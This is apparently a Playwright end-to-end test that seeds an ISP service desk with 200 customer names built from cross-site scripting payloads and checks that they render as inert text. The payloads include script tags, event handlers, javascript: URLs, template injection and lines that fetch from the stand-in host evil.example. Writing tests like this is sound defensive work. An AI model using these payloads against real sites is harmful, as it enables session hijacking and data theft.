import { and, gte, lt } from 'drizzle-orm';
import { openDatabase } from '@/lib/db/client';
import { services as serviceTable } from '@/lib/db/schema';
import { upsertServices } from '@/lib/db/services';
import { testService } from '@/lib/domain/test-ping';
import { environment } from './environment';
import { expect, test } from './fixtures';

const CODE = ['alert(1)', 'alert`1`', 'top.alert(1)', 'fetch(`//evil.example`)', 'document.body.innerHTML=1'];

/** Forty shapes in which markup and templates have carried code; `X` is the code. */
const SHAPES = [
  ...[
    '<script>X</script>',
    '<ScRiPt>X</sCrIpT>',
    '</script><script>X</script>',
    '<script src=//evil.example>',
  ],
  ...[
    '<img src=x onerror=X>',
    '<img src=x onerror="X">',
    '"><img src=x onerror=X>',
    "'><img src=x onerror=X>",
  ],
  ...['<svg onload=X>', '<svg/onload=X>', '<svg><script>X</script></svg>', '<svg><animate onbegin=X>'],
  ...[
    '<body onload=X>',
    '<iframe src=javascript:X>',
    '<iframe srcdoc="<script>X</script>">',
    '<details open ontoggle=X>',
  ],
  ...['<a href="javascript:X">x</a>', 'javascript:X', 'JaVaScRiPt:X', 'data:text/html,<script>X</script>'],
  ...[
    '<input autofocus onfocus=X>',
    '<video><source onerror=X></video>',
    '<marquee onstart=X>',
    '<object data=javascript:X>',
  ],
  ...[
    '<style>@import "javascript:X"</style>',
    '<link rel=stylesheet href=javascript:X>',
    '<base href=//evil.example>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:X">',
    '<form action=javascript:X><button>',
    '<math href=javascript:X>',
  ],
  ...[
    '{{constructor.constructor("X")()}}',
    '${X}',
    '#{X}',
    '<%= X %>',
    '" onmouseover="X',
    "' onfocus='X' autofocus '",
  ],
  ...['<!--<img src="--><img src=x onerror=X>">', '<noscript><p title="</noscript><img src=x onerror=X>">'],
  ...['\u202e<script>X</script>', '＜script＞X＜/script＞'],
];

const NAMES = SHAPES.flatMap((shape) => CODE.map((code) => shape.replaceAll('X', code)));
const FIRST_ID = 8_830_000;
/** Five share the beginning of their id: as many as a search shows of what it offers. */
const idOf = (at: number) => FIRST_ID + Math.floor(at / CODE.length) * 10 + (at % CODE.length);

// WispHub's list does not have them, so a later reading would call them lost.
test.afterAll(async () => {
  const db = openDatabase(environment().DATABASE_URL, { max: 1 });
  const own = and(gte(serviceTable.serviceId, FIRST_ID), lt(serviceTable.serviceId, idOf(NAMES.length)));
  await db.delete(serviceTable).where(own);
  await db.$client.end();
});

test('two hundred names of customers that would be code are shown as they are written and do nothing', async ({
  desk,
  page,
  team,
}) => {
  test.slow();
  expect(NAMES).toHaveLength(200);
  const db = openDatabase(environment().DATABASE_URL, { max: 1 });
  const services = NAMES.map((name, at) => ({
    ...testService,
    serviceId: idOf(at),
    name,
    address: name,
    locality: name,
    ip: `10.83.${Math.floor(at / 250)}.${at % 250}`,
    plan: { id: null, name },
    zone: { id: null, name: 'Zona de nombres' },
    router: { id: null, name: 'Router de nombres', outage: true, outageNote: name },
  }));
  await upsertServices(db, services, new Date());
  await db.$client.end();

  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const foreign: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) foreign.push(request.url());
  });

  // Every name is shown once, five at a time.
  await desk.open();
  for (let first = 0; first < NAMES.length; first += CODE.length) {
    await desk.search.fill(String(idOf(first) / 10));
    for (let at = first; at < first + CODE.length; at += 1) {
      const visible = (NAMES[at] ?? '').replace('\u202e', '').slice(0, 12);
      await expect(desk.option(idOf(at))).toContainText(visible);
    }
  }
  // One of each shape is opened on the pages that show the most of it.
  await desk.search.fill('');
  for (const at of [0, 22, 45, 100, 175]) {
    await desk.choose(idOf(at));
    const agent = await team.api('agent');
    await agent.post(`/api/v1/services/${idOf(at)}/notes/`, { text: NAMES[at] });
    await page.goto(`/services/${idOf(at)}`);
    await expect(page.getByRole('main')).toContainText((NAMES[at] ?? '').slice(0, 12));
    await desk.open();
  }
  expect([dialogs, foreign]).toEqual([[], []]);
  expect(
    await page.evaluate(() => document.querySelectorAll('main script, main iframe, main object').length),
  ).toBe(0);
});
